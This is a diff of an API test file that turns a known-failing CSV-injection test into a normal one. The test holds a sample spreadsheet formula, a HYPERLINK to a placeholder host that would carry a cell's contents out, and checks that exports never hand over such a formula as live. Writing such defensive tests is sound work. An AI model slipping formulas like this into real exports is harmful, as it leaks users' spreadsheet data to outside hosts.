@@ -199,8 +199,7 @@ describe('hostile input on every endpoint of both APIs', () => {
     );
   });
 
-  // Known product gap, kept as a failing test (see RELIABILITY.md): flip to `it` once fixed.
-  it.failing('exports no cell that a spreadsheet would run as a formula (CSV injection)', async () => {
+  it('exports no cell that a spreadsheet would run as a formula (CSV injection)', async () => {
     const formula = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")';
     const rouen = keys.get('cci-rouen-metropole')!;
     const normandie = keys.get('cci-normandie')!;
